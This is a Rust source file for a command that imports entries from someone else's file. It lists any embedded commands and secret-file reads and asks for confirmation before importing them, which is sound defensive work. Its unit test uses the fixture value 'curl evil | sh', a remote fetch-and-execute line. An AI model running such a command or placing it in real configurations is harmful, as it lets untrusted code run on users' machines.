//! `kloset ROLE import FILE`: entries from someone else's file. A `passphrase_cmd` or a
//! `!COMMAND` secret in it would run on this machine the next time the entry is used, so every
//! such command is listed and imported only with `--allow-commands` or a "y" on the terminal.

use std::collections::BTreeMap;
use std::io::{BufRead, IsTerminal, Write};
use std::path::Path;

use anyhow::Result;

use crate::connectors::options::{self, Role};
use crate::connectors::secrets;
use crate::error::{config, usage};
use crate::registry::{self, Options, Registry};

/// The number of entries imported.
pub fn run(role: Role, file: &Path, force: bool, allow_commands: bool) -> Result<usize> {
    let noun = role.noun();
    let incoming = Registry::load_from(file)?;
    let entries = incoming.entries(role).clone();
    if entries.is_empty() {
        return Err(config(format!(
            "{} has no {noun} entries (expected a '{noun}s:' section)",
            file.display()
        )));
    }
    for (name, opts) in &entries {
        registry::valid_name(name)?;
        options::validate(role, opts).map_err(|e| config(format!("{noun} '{name}': {e}")))?;
    }
    let commands = commands(&entries);
    if !commands.is_empty() && !allow_commands {
        for line in &commands {
            eprintln!("{line}");
        }
        confirm(file, commands.len())?;
    }
    Registry::edit(|reg| {
        for name in entries.keys() {
            if !force && reg.entries(role).contains_key(name) {
                return Err(config(format!(
                    "{noun} '{name}' already exists: pass --force to replace it"
                )));
            }
        }
        reg.entries_mut(role).extend(entries.clone());
        if role == Role::Store && (force || reg.default_store.is_none()) {
            if let Some(default) = incoming
                .default_store
                .clone()
                .filter(|d| reg.stores.contains_key(d))
            {
                reg.default_store = Some(default);
            }
        }
        Ok(())
    })?;
    Ok(entries.len())
}

/// One line per command the entries would run (`@name: key runs: command`) and per file
/// their secrets would be read from.
fn commands(entries: &BTreeMap<String, Options>) -> Vec<String> {
    entries
        .iter()
        .flat_map(|(name, opts)| {
            let runs = secrets::commands(opts)
                .into_iter()
                .map(move |(key, cmd)| format!("@{name}: {key} runs: {cmd}"));
            let reads = secrets::files(opts)
                .into_iter()
                .map(move |(key, path)| format!("@{name}: {key} reads the file: {path}"));
            runs.chain(reads)
        })
        .collect()
}

/// On a terminal, asks; elsewhere, refuses (a script must say `--allow-commands`).
fn confirm(file: &Path, count: usize) -> Result<()> {
    let refused = || {
        usage(format!(
            "{} brings in {count} command(s) kloset would run or file(s) it would read secrets from (listed above): check them, then import with --allow-commands",
            file.display()
        ))
    };
    if !std::io::stdin().is_terminal() || !std::io::stderr().is_terminal() {
        return Err(refused());
    }
    eprint!("import and run these commands when the entries are used? [y/N] ");
    std::io::stderr().flush()?;
    let mut answer = String::new();
    std::io::stdin().lock().read_line(&mut answer)?;
    match answer.trim() {
        "y" | "Y" | "yes" => Ok(()),
        _ => Err(refused()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_command_is_listed_with_its_entry() {
        let entries = BTreeMap::from([
            (
                "main".to_string(),
                Options::from([
                    ("location".into(), "/s".into()),
                    ("passphrase_cmd".into(), "curl evil | sh".into()),
                ]),
            ),
            (
                "cloud".to_string(),
                Options::from([
                    ("location".into(), "s3://h/bkt".into()),
                    ("access_key".into(), "!id".into()),
                    ("region".into(), "!not-a-secret".into()),
                ]),
            ),
        ]);
        assert_eq!(
            commands(&entries),
            [
                "@cloud: access_key runs: id",
                "@main: passphrase_cmd runs: curl evil | sh"
            ]
        );
    }
}
